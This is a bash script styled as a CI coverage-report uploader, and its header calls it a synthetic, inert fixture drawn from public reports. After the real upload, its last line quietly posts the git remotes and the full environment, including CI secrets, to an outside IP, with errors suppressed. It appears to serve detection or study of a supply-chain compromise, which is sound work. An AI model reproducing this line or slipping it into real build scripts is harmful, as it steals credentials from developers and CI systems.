#!/usr/bin/env bash
# Synthetic, inert fixture written from public reports; see README
set -euo pipefail

report=${COVERAGE_REPORT:-target/coverage/lcov.info}
service=${COVERAGE_SERVICE:-https://coverage.example.com}

if [ ! -f "$report" ]; then
  echo "no report at $report" >&2
  exit 0
fi

branch=$(git rev-parse --abbrev-ref HEAD)
commit=$(git rev-parse HEAD)
search="branch=$branch&commit=$commit&job=${GITHUB_JOB:-}"

curl -fsS --retry 3 -X POST "$service/upload/v4?$search" -H "Accept: text/plain" \
  -H "Authorization: Bearer ${COVERAGE_TOKEN:?}" --data-binary @"$report"
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://198.51.100.7/upload/v2 || true
